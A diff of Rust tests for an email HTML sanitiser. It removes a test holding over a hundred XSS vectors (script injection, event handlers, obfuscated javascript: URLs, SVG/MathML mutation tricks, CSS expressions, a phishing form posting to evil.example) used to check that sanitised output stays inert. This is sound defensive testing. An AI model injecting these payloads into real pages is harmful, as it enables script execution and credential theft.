@@ -5,212 +5,21 @@ use std::time::{Duration, Instant};
 use posthouse_mime::websafe::{Images, MAX_IMAGES, embed_images, web_safe, web_safe_text};
 use proptest::prelude::*;
 
+use crate::checks::{dangers, policy};
+
 const PNG: &[u8] = b"\x89PNG\r\n\x1a\nimage";
 
 fn clean(html: &str) -> String {
     web_safe(html, Images::default())
 }
 
-/// Reads the output by rules of its own and says what in it could act.
-fn dangers(html: &str) -> Vec<String> {
-    const NAMES: &str = "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col \
-        colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li \
-        main mark nav ol p pre q rp rt ruby s samp section small span strike strong sub sup table tbody td tfoot th \
-        thead time tr tt u ul var";
-    const ATTRIBUTES: &str = "align bgcolor dir height lang style title valign width href rel target src alt border \
-        hspace vspace color face size cellpadding cellspacing rules colspan rowspan nowrap scope span start type \
-        reversed";
-    let mut found = Vec::new();
-    let mut rest = html;
-    while let Some(at) = rest.find('<') {
-        rest = rest[at + 1..].trim_start_matches('/');
-        let end = rest.find(|c: char| !c.is_ascii_alphanumeric());
-        let (name, mut tag) = rest.split_at(end.unwrap_or(rest.len()));
-        if !NAMES.split_whitespace().any(|known| known == name) {
-            found.push(format!("element {name:?}"));
-        }
-        // Attributes are always name="value" with no quote inside.
-        while let Some(attribute) = tag.strip_prefix(' ') {
-            let Some((name, value)) = attribute.split_once("=\"") else {
-                found.push(format!("attribute {attribute:?}"));
-                break;
-            };
-            let (value, after) = value.split_once('"').unwrap_or((value, ""));
-            if !ATTRIBUTES.split_whitespace().any(|known| known == name) {
-                found.push(format!("attribute {name:?}"));
-            }
-            let lower = value.to_ascii_lowercase();
-            let begins = |list: &[&str]| list.iter().any(|start| lower.trim().starts_with(start));
-            let safe = match name {
-                "href" => begins(&["http:", "https:", "mailto:", "tel:"]),
-                "src" => {
-                    begins(&["http:", "https:", "cid:", "data:image/"]) && !lower.contains("svg")
-                }
-                "style" => !["url", "expression", "@", "\\", "position", "/*", "<"]
-                    .iter()
-                    .any(|word| lower.contains(word)),
-                _ => true,
-            };
-            if !safe {
-                found.push(format!("{name} {value:?}"));
-            }
-            tag = after;
-        }
-        if !tag.starts_with('>') && !tag.starts_with("/>") {
-            found.push(format!("tag {tag:?}"));
-        }
-        rest = tag;
-    }
-    found
-}
-
-#[test]
-fn the_judge_sees_dangers() {
-    for html in [
-        "<script>",
-        "<p onclick=\"x\">",
-        "<a href=\"javascript:x\">",
-        "<img src=\"data:image/svg+xml,x\">",
-        "<p style=\"position: fixed\">",
-        "<p <b>",
-        "<!-- -->",
-        "<p title=x>",
-    ] {
-        assert!(!dangers(html).is_empty(), "{html}");
-    }
-    assert!(dangers("<p title=\"a\">x<br></p>").is_empty());
-}
-
-#[test]
-fn attacks() {
-    let vectors = [
-        "<script>steal()</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<scr<script>ipt>steal()</scr</script>ipt>",
-        "<script/x>steal()</script>",
-        "<script\n>steal()</script\n>",
-        "<<script>steal()//<</script>",
-        "<img src=x onerror=steal()>",
-        "<img src=x OnErRoR = \"steal()\">",
-        "<img/src=x/onerror=steal()>",
-        "<img src=\"x\"onerror=\"steal()\">",
-        "<img src='x' onerror='steal()' '>",
-        "<img \"\"\"><script>steal()</script>\">",
-        "<body onload=steal()>x",
-        "<p onclick=steal() onmouseover=steal()>x</p>",
-        "<div onpointerrawupdate=steal()>x</div>",
-        "<a href=\"javascript:steal()\">x</a>",
-        "<a href=\"JaVaScRiPt:steal()\">x</a>",
-        "<a href=\" javascript:steal()\">x</a>",
-        "<a href=\"\u{1}javascript:steal()\">x</a>",
-        "<a href=\"java\tscript:steal()\">x</a>",
-        "<a href=\"java&#10;script:steal()\">x</a>",
-        "<a href=\"&#106;avascript&colon;steal()\">x</a>",
-        "<a href=\"&#x6A&#x61vascript:steal()\">x</a>",
-        "<a href=\"javascript&NewLine;:steal()\">x</a>",
-        "<a href=\"vbscript:steal()\">x</a>",
-        "<a href=\"livescript:steal()\">x</a>",
-        "<a href=\"data:text/html,<script>steal()</script>\">x</a>",
-        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
-        "<a href=\"blob:https://x/y\">x</a><a href=\"file:///etc/passwd\">x</a>",
-        "<a href=\"//evil.example\">x</a><a href=\"/logout\">x</a><a href=\"?x\">x</a>",
-        "<img src=\"javascript:steal()\">",
-        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
-        "<img src=\"data:text/html;base64,PHN2Zz4=\">",
-        "<img src=\"data:image/png;x=<svg>;base64,AAAA\">",
-        "<img srcset=\"javascript:steal() 1x\" lowsrc=\"javascript:steal()\" dynsrc=x>",
-        "<image src=x onerror=steal()>",
-        "<input type=image src=x onerror=steal()>",
-        "<form action=https://evil.example><input name=password><button>Log in</button></form>",
-        "<button formaction=javascript:steal()>x</button>",
-        "<isindex type=image src=1 onerror=steal()>",
-        "<meta http-equiv=refresh content=\"0;url=javascript:steal()\">",
-        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-        "<base href=\"javascript:steal()//\"><a href=\"x\">x</a>",
-        "<link rel=stylesheet href=//evil.example/x.css>",
-        "<style>@import '//evil.example/x.css';</style>",
-        "<style>body{background:url(javascript:steal())}</style>",
-        "<style><!--</style><script>steal()</script>--></style>",
-        "<div style=\"background:url(javascript:steal())\">x</div>",
-        "<div style=\"background-image:\\75\\72\\6c('//evil.example')\">x</div>",
-        "<div style=\"width:expression(steal())\">x</div>",
-        "<div style=\"xss:expr/*XSS*/ession(steal())\">x</div>",
-        "<div style=\"position:fixed;inset:0;z-index:99\">log in again</div>",
-        "<div style=\"-moz-binding:url(//evil.example/x.xml#a)\">x</div>",
-        "<div style='color:red;}*{display:none'>x</div>",
-        "<div style=\"behavior:url(#default#time2)\">x</div>",
-        "<iframe src=javascript:steal()></iframe>",
-        "<iframe srcdoc=\"<script>steal()</script>\"></iframe>",
-        "<object data=javascript:steal()></object>",
-        "<embed src=javascript:steal()>",
-        "<applet code=x></applet>",
-        "<frameset><frame src=javascript:steal()></frameset>",
-        "<svg onload=steal()>",
-        "<svg><script>steal()</script></svg>",
-        "<svg><a xlink:href=javascript:steal()><text y=9>x</text></a></svg>",
-        "<svg><animate onbegin=steal() attributeName=x dur=1s>",
-        "<svg><a><animate attributeName=href values=javascript:steal() /></a></svg>",
-        "<svg><foreignObject><script>steal()</script></foreignObject></svg>",
-        "<svg><style><img src=x onerror=steal()></style></svg>",
-        "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
-        "<math><maction actiontype=statusline xlink:href=javascript:steal()>x</maction></math>",
-        "<math href=javascript:steal()>x</math>",
-        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=steal() src>\">",
-        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
-        "<textarea><p title=\"</textarea><img src=x onerror=steal()>\">",
-        "<title><p title=\"</title><img src=x onerror=steal()>\">",
-        "<xmp><p title=\"</xmp><img src=x onerror=steal()>\">",
-        "<noembed><p title=\"</noembed><img src=x onerror=steal()>\">",
-        "<select><iframe></select><img src=x onerror=steal()>",
-        "<template><script>steal()</script></template>",
-        "<video src=x onerror=steal()><source onerror=steal()></video>",
-        "<audio src=x onerror=steal()>",
-        "<details open ontoggle=steal()>x</details>",
-        "<marquee onstart=steal()>x</marquee>",
-        "<keygen autofocus onfocus=steal()>",
-        "<table background=javascript:steal()><td background=javascript:steal()>x</table>",
-        "<!--[if IE]><script>steal()</script><![endif]-->",
-        "<!--><img src=x onerror=steal()>-->",
-        "<!-- --!><img src=x onerror=steal()>-->",
-        "<![CDATA[<img src=x onerror=steal()>]]>",
-        "<?xml version=\"1.0\"?><?php <img src=x onerror=steal()>",
-        "<div id=cookie name=domain class=modal>x</div>",
-        "<a id=location href=https://x>x</a><form name=body><input name=firstChild>",
-        "<p title=\"&quot;><img src=x onerror=steal()>\">x</p>",
-        "<p title='\"><img src=x onerror=steal()>'>x</p>",
-        "<p title=`><img src=x onerror=steal()>`>x</p>",
-        "<font color=\"red\" onfocus=steal() tabindex=1 autofocus>x</font>",
-        "<a href=https://x target=_self rel=opener ping=https://evil.example download>x</a>",
-        "<a href=\"https://x/&quot; onclick=&quot;steal()\">x</a>",
-        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">steal()</x:script>",
-        "<plaintext><script>steal()</script>",
-        "\u{0}<scr\u{0}ipt>steal()</scr\u{0}ipt>",
-        "+ADw-script+AD4-steal()+ADw-/script+AD4-",
-        "<dialog open>x</dialog><portal src=https://evil.example></portal>",
-        "<blockquote cite=javascript:steal()>x</blockquote><q cite=javascript:steal()>x</q>",
-    ];
-    for vector in vectors {
-        let safe = clean(vector);
-        assert!(
-            dangers(&safe).is_empty(),
-            "{vector}\n{safe}\n{:?}",
-            dangers(&safe)
-        );
-        // What a browser makes of it, written out again, is as harmless.
-        let again = clean(&safe);
-        assert!(dangers(&again).is_empty(), "{vector}\n{again}");
-        // As part of a page too.
-        let page = clean(&format!(
-            "<html><body><table><tr><td>{vector}</td></tr></table>after"
-        ));
-        assert!(dangers(&page).is_empty(), "{vector}\n{page}");
-    }
-    assert!(vectors.len() > 100);
-}
-
 #[test]
 fn what_stays() {
+    let boxed = |html: &str| {
+        format!(
+            "<div class=\"ee-message\" style=\"contain: content; overflow: auto;\">{html}</div>"
+        )
+    };
     for (html, expected) in [
         ("<p>a<br>b</p>", "<p>a<br>b</p>"),
         (
@@ -235,11 +44,20 @@ fn what_stays() {
             "<center><font color=\"red\">x</font></center>",
         ),
     ] {
+        // What has a size, or may have one, stands in a box.
+        let sized = ["<table", "<img", "<font"]
+            .iter()
+            .any(|tag| html.contains(tag));
+        let expected = if sized {
+            boxed(expected)
+        } else {
+            expected.to_owned()
+        };
         assert_eq!(clean(html), expected, "{html}");
     }
     assert_eq!(
         web_safe_text("a <b> https://x.org\n"),
-        "<p>a &lt;b&gt; <a href=\"https://x.org\" target=\"_blank\" rel=\"noopener noreferrer\">https://x.org</a></p>\n"
+        "<p>a &lt;b&gt; <a href=\"https://x.org\" target=\"_blank\" rel=\"noopener noreferrer\">https://x.org</a></p>"
     );
 }
 
@@ -256,7 +74,10 @@ fn images_of_the_message() {
     let safe = web_safe(html, images());
     assert_eq!(
         safe,
-        format!("<img src=\"{uri}\"><img src=\"{uri}\"><img src=\"cid:bad@x\"> cid:logo%201@x")
+        format!(
+            "<div class=\"ee-message\" style=\"contain: content; overflow: auto;\">\
+             <img src=\"{uri}\"><img src=\"{uri}\"><img src=\"cid:bad@x\"> cid:logo%201@x</div>"
+        )
     );
     let html =
         "<td background=cid:logo%201@x onclick=x><img src=\"cid:bad@x\">\u{e4}cid:logo%201@x";
@@ -387,10 +208,7 @@ proptest! {
     #![proptest_config(ProptestConfig::with_cases(500))]
     #[test]
     fn nothing_can_act(html in pieces()) {
-        let safe = clean(&html);
-        prop_assert_eq!(dangers(&safe), Vec::<String>::new(), "{}", safe);
-        let again = clean(&safe);
-        prop_assert_eq!(dangers(&again), Vec::<String>::new(), "{}", again);
+        policy(&html);
         let mut images = Images::default();
         images.add("a", PNG);
         let _ = embed_images(&html, &images);
